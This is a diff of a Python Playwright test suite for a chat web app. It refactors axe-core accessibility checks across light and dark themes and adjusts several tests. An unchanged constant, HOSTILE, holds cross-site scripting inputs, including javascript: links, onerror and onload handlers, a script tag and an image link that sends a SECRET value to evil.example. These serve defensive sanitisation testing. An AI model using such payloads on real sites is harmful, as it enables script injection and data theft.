@@ -14,6 +14,7 @@ from typing import Any
 
 import httpx
 import pytest
+import pytest_asyncio
 from playwright.async_api import Browser, Page, expect
 
 from bullpen.testing import NO_LIMITS
@@ -22,6 +23,13 @@ from tests.page.house import PASSWORD, House, Visit, claimed, cookie_in
 from tests.waits import until
 
 AXE = Path(__file__).parents[2] / "ui" / "node_modules" / "axe-core" / "axe.min.js"
+# What axe can find in the dark and not in the light. By id: `cat.color` also has a stricter rule, off by default.
+COLOUR_RULES = ["color-contrast", "link-in-text-block"]
+SERIOUS = """async rules => {
+const options = {resultTypes: ['violations'], ...(rules ? {runOnly: {type: 'rule', values: rules}} : {})};
+const {violations} = await axe.run(document, options);
+return violations.filter(each => ['serious', 'critical'].includes(each.impact))
+.flatMap(each => each.nodes.map(node => `${each.id}: ${node.html.slice(0, 160)}`)) }"""
 HOSTILE = """[click](javascript:alert(1)) <img src=x onerror="document.title='owned'"> <svg/onload=alert(2)>
 ![secret](https://evil.example/?d=SECRET)
 <script>document.title='owned'</script> [good](https://good.example/page) [a lie](https://evil.example/)"""
@@ -34,7 +42,7 @@ async def busy_room(house: House) -> str:
     await house.tool("confirm")
     chart = {"executionType": "internal", "visible": True, "isAsync": False}
     await house.tool("show_chart", **chart)
-    await house.tool("refund_order", **chart, policy="ask", timeout=60_000)
+    await house.tool("refund_order", **chart, policy="ask", timeout=600_000)
     rows = [{"day": "Mon", "signups": 41}, {"day": "Tue", "signups": 47}]
     agent = await house.agent(
         "Ada",
@@ -62,17 +70,23 @@ async def busy_room(house: House) -> str:
     return room
 
 
-async def serious(visit: Visit, page: Page) -> list[str]:
-    if not AXE.exists():
-        pytest.skip("axe-core is not installed: run `python -m tools.page install` where npm can fetch it")
-    await page.evaluate(AXE.read_text())
-    found = await page.evaluate("axe.run(document, {resultTypes: ['violations']})")
-    return [
-        f"{each['id']}: {node['html'][:160]}"
-        for each in found["violations"]
-        if each["impact"] in ("serious", "critical")
-        for node in each["nodes"]
-    ]
+class Views:
+    """What axe finds in each view, light and dark.
+
+    Only colours differ between the two (ui/src/look/tokens.css), so in the dark only their rules are run.
+    """
+
+    def __init__(self, visit: Visit) -> None:
+        self.visit = visit
+        self.found: dict[str, dict[str, list[str]]] = {"light": {}, "dark": {}}
+
+    async def check(self, name: str) -> None:
+        page = self.visit.page
+        if not await page.evaluate("'axe' in window"):
+            await page.evaluate(AXE.read_text())
+        for theme, rules in (("dark", COLOUR_RULES), ("light", None)):
+            await page.emulate_media(color_scheme=theme)  # type: ignore[arg-type]
+            self.found[theme][name] = await page.evaluate(SERIOUS, rules)
 
 
 async def room_with_a_form(house: House) -> str:
@@ -90,60 +104,96 @@ async def newcomer(house: House, name: str) -> Any:
         return cookie_in(await http.post("/session", json={"name": name, "password": PASSWORD}), house.url)
 
 
-@pytest.mark.parametrize("theme", ["light", "dark"])
-async def test_axe_finds_nothing_serious_on_any_page(house: House, browser: Browser, theme: str) -> None:
-    room = await busy_room(house)
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def busy(house: House) -> str:
+    return await busy_room(house)
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def views(house: House, browser: Browser, busy: str) -> Views:
+    """Every view, looked at once."""
+    if not AXE.exists():
+        pytest.skip("axe-core is not installed: run `python -m tools.page install` where npm can fetch it")
     visit = Visit(house, browser)
-    page = await visit.open(house.cookie, bypass_csp=True, color_scheme=theme)
-    await visit.room(room)
+    await visit.open(house.cookie, bypass_csp=True)
+    made = Views(visit)
+    await look_at_a_room(made, house, busy)
+    await look_at_work(made, house, busy)
+    await look_on_a_phone(made, busy)
+    await look_at_the_way_in(made, house)
+    await visit.close()
+    return made
+
+
+async def look_at_a_room(views: Views, house: House, room: str) -> None:
+    page = await views.visit.room(room)
     await expect(page.get_by_role("region", name=re.compile("Approval wanted"))).to_be_visible()
     await expect(page.locator("svg.recharts-surface").first).to_be_visible()
+    await views.check("room")
+    await page.get_by_role("button", name="Room details").click()
+    await expect(page.get_by_role("complementary", name="Room details")).to_be_visible()
+    await views.check("details")
+    await page.keyboard.press("Control+k")
+    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
+    await views.check("palette")
+    await page.keyboard.press("Escape")
+    await expect(page.get_by_role("combobox", name="Search or jump to")).to_have_count(0)
+    for panel, name in (("thread", "Replies"), ("why", "Why?")):
+        await views.visit.go(f"/rooms/{room}?panel={panel}:{(await house.messages(room))[-2]['id']}")
+        await expect(page.get_by_role("complementary", name=name)).to_be_visible()
+        await expect(page.get_by_label("Loading")).to_have_count(0)
+        await views.check(panel)
+
+
+async def look_at_work(views: Views, house: House, room: str) -> None:
+    page = views.visit.page
     members = (await house.ask("GET", f"/spaces/{room}"))["members"]
     agent = next(id for id in members if id.startswith("ada"))
     run = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"][-1]["id"]
-    found = {"room": await serious(visit, page)}
-    await page.get_by_role("button", name="Room details").click()
-    await expect(page.get_by_role("complementary", name="Room details")).to_be_visible()
-    found["details"] = await serious(visit, page)
-    await page.keyboard.press("Control+k")
-    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
-    found["palette"] = await serious(visit, page)
-    for panel, name in (("thread", "Replies"), ("why", "Why?")):
-        await visit.go(f"/rooms/{room}?panel={panel}:{(await house.messages(room))[-2]['id']}")
-        await expect(page.get_by_role("complementary", name=name)).to_be_visible()
-        await expect(page.get_by_label("Loading")).to_have_count(0)
-        found[panel] = await serious(visit, page)
     schedule = {"scheduleType": "cron", "scheduleValue": "0 9 * * *"}
     body = {"spaceId": room, "agentId": agent, "prompt": "Say good morning.", **schedule}
     task = (await house.ask("POST", "/tasks", json=body))["id"]
     work = ("/pending", "/runs", f"/runs/{run}", "/tasks", f"/tasks/{task}", "/agents", f"/agents/{agent}")
     connect = f"/agents/{agent}?tab=Model+and+limits"
     for path in (*work, connect, "/search?q=figures", "/settings"):
-        await visit.go(path)
+        await views.visit.go(path)
         await expect(page.locator("main h1")).to_be_visible()
         await expect(page.get_by_label("Loading")).to_have_count(0)
-        found[path] = await serious(visit, page)
+        await views.check(path)
+
+
+async def look_on_a_phone(views: Views, room: str) -> None:
+    page = views.visit.page
     await page.set_viewport_size({"width": 390, "height": 800})
     for path in (f"/rooms/{room}", "/rooms", "/pending"):
-        await visit.go(path)
+        await views.visit.go(path)
         await expect(page.get_by_role("navigation", name="Main, below").or_(page.get_by_role("log"))).to_be_visible()
         await expect(page.get_by_label("Loading")).to_have_count(0)
-        found[f"{path} on a phone"] = await serious(visit, page)
+        await views.check(f"{path} on a phone")
     await page.set_viewport_size({"width": 1280, "height": 800})
-    await visit.context.clear_cookies()
-    await visit.go("/")
+
+
+async def look_at_the_way_in(views: Views, house: House) -> None:
+    page = views.visit.page
+    await views.visit.context.clear_cookies()
+    await views.visit.load("/")
     await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
-    found["door"] = await serious(visit, page)
+    await views.check("door")
     form = await room_with_a_form(house)
-    await visit.context.add_cookies([await newcomer(house, theme)])
-    await visit.go("/")
+    await views.visit.context.add_cookies([await newcomer(house, "Newcomer")])
+    await views.visit.load("/")
     await expect(page.get_by_role("heading", name="Welcome")).to_be_visible()
-    found["welcome"] = await serious(visit, page)
+    await views.check("welcome")
     await page.get_by_role("button", name=f"Join {form}").click()
     await expect(page.get_by_role("region", name="Start here")).to_be_visible()
     await expect(page.get_by_role("region", name="Where to?").get_by_label("City")).to_be_visible()
-    found["tour and form"] = await serious(visit, page)
-    await visit.close()
+    await views.check("tour and form")
+
+
+@pytest.mark.parametrize("theme", ["light", "dark"])
+async def test_axe_finds_nothing_serious_on_any_page(views: Views, theme: str) -> None:
+    found = views.found[theme]
+    assert len(found) == 21
     assert not any(found.values()), json.dumps(found, indent=1)
 
 
@@ -271,8 +321,8 @@ async def test_another_origin_cannot_frame_the_page_or_read_its_stream(
 
 
 @pytest.mark.parametrize("width", [320, 390])
-async def test_nothing_is_wider_than_a_small_phone(house: House, visit: Visit, width: int) -> None:
-    room = await busy_room(house)
+async def test_nothing_is_wider_than_a_small_phone(house: House, visit: Visit, busy: str, width: int) -> None:
+    room = busy
     await house.post(room, "a-very-long-word-" * 30 + " مرحبا بالعالم 👩‍🚀🎉")
     page = visit.page
     await page.set_viewport_size({"width": width, "height": 700})
@@ -285,9 +335,9 @@ async def test_nothing_is_wider_than_a_small_phone(house: House, visit: Visit, w
     await visit.go(f"/rooms/{room}")
     await page.get_by_role("link", name="Back to rooms").click()
     await page.get_by_role("navigation", name="Rooms").get_by_role("link", name=re.compile(room)).click()
-    await page.get_by_label(f"Message {room}").fill("from a phone")
+    await page.get_by_label(f"Message {room}").fill(f"from a phone, {width} wide")
     await page.get_by_role("button", name="Send").click()
-    await expect(page.get_by_role("log").get_by_text("from a phone")).to_be_visible()
+    await expect(page.get_by_role("log").get_by_text(f"from a phone, {width} wide")).to_be_visible()
 
 
 async def test_right_to_left_text_and_local_times_display_correctly(house: House, browser: Browser) -> None:
@@ -332,6 +382,7 @@ async def test_the_page_catches_up_after_a_killed_server_returns(
                 await visit.close()
 
 
+@pytest.mark.fresh_page
 async def test_a_failed_load_request_is_retried_and_hides_nothing(house: House, visit: Visit) -> None:
     room = await house.room()
     refused: list[str] = []
@@ -355,6 +406,7 @@ async def test_a_failed_load_request_is_retried_and_hides_nothing(house: House, 
     ).to_be_visible()
 
 
+@pytest.mark.fresh_page
 async def test_several_tabs_share_one_stream(house: House, visit: Visit) -> None:
     room = await house.room()
     page = await visit.room(room)
